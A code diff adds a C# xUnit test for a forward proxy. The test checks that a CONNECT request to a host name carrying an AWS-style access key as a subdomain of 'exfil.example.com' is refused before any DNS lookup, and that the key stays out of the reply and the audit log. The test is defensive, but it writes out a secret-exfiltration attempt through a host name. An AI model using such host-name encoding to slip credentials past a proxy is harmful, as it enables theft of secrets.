@@ -97,6 +97,27 @@ public sealed class ForwardProxyTests
     }
 
     [Fact]
+    public async Task A_secret_in_a_CONNECT_host_is_blocked_before_any_lookup_and_the_record_does_not_hold_it()
+    {
+        var origin = await OriginServer.StartAsync();
+        var resolver = new ScriptedResolver(new Dictionary<string, IPAddress[][]>());
+        await using var h = await ProxyHarness.StartAsync(o => o with { Resolver = resolver }, origin: origin);
+        const string Host = "AKIAZ3MQ7TP4XJ2LKW5N.exfil.example.com";
+        using var tcp = new TcpClient();
+        await tcp.ConnectAsync(IPAddress.Loopback, h.ProxyUrl.Port);
+        var stream = tcp.GetStream();
+        await stream.WriteAsync(Encoding.ASCII.GetBytes($"CONNECT {Host}:443 HTTP/1.1\r\nHost: {Host}:443\r\n\r\n"));
+        var answer = await new StreamReader(stream, Encoding.ASCII).ReadToEndAsync().WaitAsync(TimeSpan.FromSeconds(10));
+        Assert.StartsWith("HTTP/1.1 403 Forbidden\r\n", answer);
+        Assert.Equal(0, resolver.Calls(Host));
+        Assert.DoesNotContain("AKIAZ3MQ7TP4XJ2LKW5N", answer);
+        await h.Gateway.Running.StopAsync();
+        var records = string.Join("\n", h.Gateway.AuditRecords().Select(r => r.GetRawText()));
+        Assert.Contains("example.com (+2 labels, h:", records);
+        Assert.DoesNotContain("AKIAZ3MQ7TP4XJ2LKW5N", records);
+    }
+
+    [Fact]
     public async Task A_TLS_server_name_that_is_not_the_CONNECT_host_closes_the_tunnel_and_is_recorded()
     {
         await using var h = await ProxyHarness.StartAsync();
